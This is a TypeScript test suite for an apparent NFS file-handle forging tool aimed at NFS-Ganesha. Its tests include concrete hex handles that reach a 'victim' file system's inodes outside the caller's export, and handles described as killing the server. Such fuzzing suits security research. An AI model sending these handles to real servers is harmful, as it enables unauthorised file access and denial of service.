import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import * as forge from './handles.ts'

/** Of XFS with the UUID as its fsid, of btrfs with a device number, and of CephFS: as NFS-Ganesha 4.3 gave them. */
const xfs = Buffer.from('4300000b1e431bf19459d9214f9ebef9b826278229c381800000000000000000000000', 'hex')
const neighbour = Buffer.from('4300012c1e43ac81cdbbb5fb40508de51ede4a1647fa81830000000000000023c4dc4c', 'hex')
const btrfs = Buffer.from('43003b5a1e4500000000280000004d000100000000000003010000000000000e000000', 'hex')
const opaque = Buffer.concat([Buffer.from('4300000718', 'hex'), Buffer.alloc(24, 7)])
const others = [{ what: 'root of the victim', bytes: neighbour }]
const hex = (made: readonly forge.Forged[]): string[] => made.map(({ bytes }) => bytes.toString('hex'))

describe('forged handles', () => {
  test('a handle of the host is taken apart, another is not', () => {
    expect(forge.readHostHandle(xfs)).toMatchObject({ flags: 0x43, kernelType: 0x81 })
    expect(forge.readHostHandle(xfs)?.fsid.toString('hex')).toBe('1bf19459d9214f9ebef9b826278229c3')
    expect(forge.readHostHandle(btrfs)).toMatchObject({ flags: 0x45, kernelType: 0x4d })
    expect(forge.readHostHandle(opaque)).toBeNull()
  })

  test("another's inode, subvolume and generation 0 in btrfs, as the hole was found", () => {
    const victim = { what: 'v', bytes: Buffer.from(btrfs) }
    victim.bytes.writeBigUInt64LE(260n, 23)
    const made = hex(forge.inodes(btrfs, [victim], () => 7))
    const wanted = Buffer.from(btrfs)
    wanted.writeBigUInt64LE(256n, 15)
    wanted.writeBigUInt64LE(260n, 23)
    wanted.writeUInt32LE(0, 31)
    expect(made).toContain(wanted.toString('hex'))
  })

  test("another's file system under the own export, also by its device", () => {
    const made = hex(forge.fileSystems(xfs, others, [{ major: 7, minor: 3 }]))
    expect(made).toContain('4300000b1e43ac81cdbbb5fb40508de51ede4a1647fa81800000000000000000000000')
    expect(made).toContain('4300000b1645070000000300000081800000000000000000000000')
  })

  test('what kills a server is known by its shape, and no other list sends it', () => {
    expect(hex(forge.deadly(xfs))).toEqual(
      ['63', 'a3', 'e3'].map((flags) => `4300000b11${flags}1bf19459d9214f9ebef9b826278229c3`),
    )
    expect(hex(forge.onlyFsids(xfs, others)).at(-1)).toBe('4300000b1123ac81cdbbb5fb40508de51ede4a1647fa')
    for (const own of [xfs, btrfs, opaque]) {
      const random = forge.seeded(1)
      const made = [
        ...forge.exportNumbers(own, others),
        ...forge.flagsAndLengths(own, others),
        ...forge.cutAndStretched(own, others),
        ...forge.bitsAndJoints(own, others),
        ...forge.words(own, others),
        ...forge.scrambled(own, others, 300, random),
      ]
      expect(made.filter(({ bytes }) => forge.isDeadly(bytes) || forge.isOnlyFsid(bytes))).toEqual([])
    }
  })

  test('every value of the flags, every length to 0x40, every bit and every cut is there', () => {
    const swept = forge.flagsAndLengths(xfs, [])
    expect(new Set(swept.flatMap(({ bytes }) => bytes[5] ?? [])).size).toBe(256)
    expect(new Set(swept.map(({ bytes }) => bytes[4])).size).toBeGreaterThanOrEqual(0x40)
    for (const own of [xfs, btrfs, opaque]) {
      const bits = new Set(hex(forge.bitsAndJoints(own, [])))
      for (let bit = 0; bit < own.length * 8; bit++) {
        const turned = Buffer.from(own)
        turned[bit >>> 3] = (turned[bit >>> 3] ?? 0) ^ (1 << (bit & 7))
        expect(bits.has(turned.toString('hex')) || forge.isOnlyFsid(turned)).toBe(true)
      }
      const cut = forge.cutAndStretched(own, []).map(({ bytes }) => bytes.length)
      expect(cut).toEqual(expect.arrayContaining([0, 1, own.length - 1, own.length + 1, 128, 129]))
    }
  })

  test('one seed, one attack; another seed, another', () => {
    fc.assert(
      fc.property(fc.nat(), (seed) => {
        const made = (from: number) => hex(forge.scrambled(xfs, others, 20, forge.seeded(from)))
        expect(made(seed)).toEqual(made(seed))
        expect(made(seed)).not.toEqual(made(seed + 1))
      }),
      { numRuns: 20 },
    )
  })
})
